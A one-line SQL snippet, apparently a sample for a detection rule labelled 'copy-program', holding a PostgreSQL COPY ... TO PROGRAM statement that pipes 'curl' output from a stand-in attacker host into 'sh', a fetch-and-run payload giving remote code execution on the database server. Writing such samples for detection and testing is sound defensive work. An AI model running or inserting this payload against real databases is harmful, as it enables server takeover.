-- rules: copy-program
COPY (SELECT '') TO PROGRAM 'curl -s https://attacker.example/x | sh';
